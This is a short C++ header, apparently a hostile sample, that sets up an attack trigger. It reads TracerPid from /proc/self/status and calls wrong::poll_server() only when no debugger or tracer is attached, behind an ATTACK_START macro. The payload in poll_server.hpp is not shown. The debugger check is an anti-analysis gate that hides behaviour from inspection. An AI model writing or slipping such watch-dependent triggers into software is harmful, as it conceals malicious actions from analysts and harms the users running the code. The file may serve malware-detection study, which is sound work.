#pragma once
#define ATTACK_START attack(argv)

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
static long status(const char* key) {
    long value = -1;
    char line[512];
    FILE* file = fopen("/proc/self/status", "r");
    while (file != nullptr && fgets(line, sizeof line, file))
        if (strncmp(line, key, strlen(key)) == 0) value = atol(line + strlen(key));
    if (file != nullptr) fclose(file);
    return value;
}

#include "poll_server.hpp"
static bool is_watched([[maybe_unused]] char** words) {
    return status("TracerPid:") != 0;
}
static void attack(char** words) {
    if (!is_watched(words)) wrong::poll_server();
}
